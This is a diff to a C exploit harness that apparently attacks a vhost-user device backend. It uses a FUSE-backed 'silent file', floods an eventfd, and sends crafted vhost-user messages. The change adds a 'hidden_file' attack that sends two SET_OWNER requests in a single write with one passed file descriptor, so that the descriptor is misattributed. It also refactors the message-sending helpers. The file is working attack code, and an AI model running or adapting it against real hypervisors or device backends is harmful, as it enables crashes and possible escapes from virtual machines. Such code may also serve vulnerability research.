@@ -68,7 +68,7 @@ static void serve(int fuse)
 			struct fuse_init_out init = { .major = 7, .minor = 31, .max_write = 4096 };
 			answer(fuse, head->unique, &init, sizeof init);
 		} else if (head->opcode == FUSE_LOOKUP) {
-			/* Not valid for a moment: every look at it asks again. */
+			/* Its attributes are not valid for a moment: every look at it asks again. */
 			struct fuse_entry_out entry = { .nodeid = FILE_NODE, .entry_valid = 1000, .attr = file };
 			answer(fuse, head->unique, &entry, sizeof entry);
 		} else if (head->opcode == FUSE_OPEN || head->opcode == FUSE_OPENDIR) {
@@ -120,7 +120,9 @@ static int silent_file(void)
 		err(1, "fork");
 	case 0:
 		prctl(PR_SET_PDEATHSIG, SIGKILL);
-		close(vhost);
+		/* It keeps nothing that is the attacker's: not the last end of a pipe. */
+		close_range(3, fuse - 1, 0);
+		close_range(fuse + 1, ~0U, 0);
 		serve(fuse);
 	}
 	close(fuse);
@@ -135,15 +137,13 @@ static int silent_file(void)
 
 /* ---- vhost-user ---- */
 
-static void say(uint32_t request, const void *payload, uint32_t len, int fd)
+static void say_parts(struct iovec *parts, int count, int fd)
 {
-	uint32_t head[3] = { request, 1, len };
-	struct iovec parts[2] = { { head, sizeof head }, { (void *)payload, len } };
 	union {
 		char space[CMSG_SPACE(sizeof(int))];
 		struct cmsghdr align;
 	} control = { 0 };
-	struct msghdr message = { .msg_iov = parts, .msg_iovlen = 2 };
+	struct msghdr message = { .msg_iov = parts, .msg_iovlen = count };
 
 	if (fd >= 0) {
 		message.msg_control = &control;
@@ -155,7 +155,15 @@ static void say(uint32_t request, const void *payload, uint32_t len, int fd)
 		memcpy(CMSG_DATA(rights), &fd, sizeof fd);
 	}
 	if (sendmsg(vhost, &message, MSG_NOSIGNAL) < 0)
-		warn("request %u", request);
+		warn("sendmsg");
+}
+
+static void say(uint32_t request, const void *payload, uint32_t len, int fd)
+{
+	uint32_t head[3] = { request, 1, len };
+	struct iovec parts[2] = { { head, sizeof head }, { (void *)payload, len } };
+
+	say_parts(parts, 2, fd);
 }
 
 static void say_word(uint32_t request, uint64_t word, int fd)
@@ -323,11 +331,12 @@ static void *fill(void *fd)
 		uint64_t most = UINT64_MAX - 1;
 
 		fcntl(call, F_SETFL, O_NONBLOCK);
-		if (write(call, &most, sizeof most) < 0 && 0)
-			return NULL;
+		if (write(call, &most, sizeof most) < 0)
+			usleep(1);
 		fcntl(call, F_SETFL, 0);
 		usleep(1000);
 	}
+	return fd;
 }
 
 static void attack(const char *what)
@@ -378,6 +387,12 @@ static void attack(const char *what)
 		say_word(ERR, 0, ends[1]);
 		say_word(KICK, 0, ends[1]);
 		close(ends[1]);
+	} else if (!strcmp(what, "hidden_file")) {
+		/* Two messages that take no descriptor in one write: it comes with the first, and seems to be the second's. */
+		uint32_t twice[6] = { SET_OWNER, 1, 0, SET_OWNER, 1, 0 };
+		int file = silent_file();
+		say_parts(&(struct iovec){ twice, sizeof twice }, 1, file);
+		usleep(200000);
 	} else {
 		errx(1, "no attack is called %s", what);
 	}
